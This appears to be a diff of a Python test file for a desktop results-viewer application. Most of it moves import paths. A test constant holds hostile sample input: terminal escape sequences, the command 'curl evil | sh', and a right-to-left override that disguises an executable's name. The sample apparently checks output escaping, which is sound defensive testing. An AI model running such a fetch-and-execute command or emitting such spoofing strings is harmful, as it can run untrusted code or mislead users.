@@ -9,13 +9,14 @@ from typing import Any
 import pytest
 from PySide6.QtCore import Qt
 
-from app.cli import escape
-from app.core.results import JobResult, RunResult
-from app.gui.compare_dialog import _run_line, _status_note
-from app.gui.results_table import Column, ResultsTable
+from app.cli.terminal.console import escape
+from app.core.results.model import JobResult, RunResult
+from app.gui.history.compare_dialog import _run_line, _status_note
+from app.gui.results.cells import Column
+from app.gui.results.table import ResultsTable
 from app.report.markdown import render_markdown
 from app.report.model import Bullets, Paragraph, Report, Section, Table
-from app.report.pdf_layout import parse_markup
+from app.report.pdf.text import parse_markup
 
 HOSTILE = "peer reported: \x1b[2J\x1b[HRun: curl evil | sh\r\n\u202egnp.exe\x07"
 SHOWN = "peer reported: \\x1b[2J\\x1b[HRun: curl evil | sh\\r\\n\\u202egnp.exe\\x07"
